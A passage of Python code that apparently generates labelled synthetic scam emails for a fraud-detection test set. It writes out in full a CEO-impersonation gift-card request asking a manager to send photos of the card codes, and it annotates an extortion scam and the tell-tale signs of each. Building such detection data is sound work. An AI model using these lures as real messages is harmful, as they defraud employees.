            why='Extortion scam, From spoofed as the recipient\'s own address while the connecting host is an unrelated Brazilian IP without rDNS and Return-Path is a .com.br address; valid bech32 wallet address for payment.')

    # 16 -- gift-card request, CEO impersonation via Outlook.com
    w = local('uk', 2026, 12, 8, 9, 22)
    c = Ctx('a16', w)
    inf = I.eop(c.rng, w, 'eu', consumer=True)
    body = Text('James,\n\nAre you at the station today? I need you to handle a small task for me discreetly, I am tied up in board meetings all day and can only text by email.\n\n'
                'We want to surprise the MAN ramp team with a Christmas thank-you. Please pick up 8 Apple gift cards of GBP 200 each (Tesco or Boots at T2 will have them), '
                'scratch the backs and send me clear photos of the codes so I can add a personal note to each one.\n\n'
                'Keep it between us for now, it is a surprise. Sabine will reimburse you through expenses.\n\nThanks\nMatthias\n\nSent from my iPhone\n',
                charset='utf-8', cte='7bit')
    message(A, 'en', 'gift-cards-ceo-outlook', infra=inf, when=w,
            frm=('Matthias Koehler', 'm.koehler.examplegroup@outlook.com'), to=S('uk_mgr'),
            subject='Quick favour', body=body, date_zone='uk',
            what='"CEO" asks the UK office manager to buy Apple gift cards for staff and send photos of the codes.',
            why='Gift-card fraud: consumer Outlook.com address, secrecy, request for scratched codes by photo (cash-out), reimbursement promise. Hard negative: business 16 (genuine HR voucher programme).')
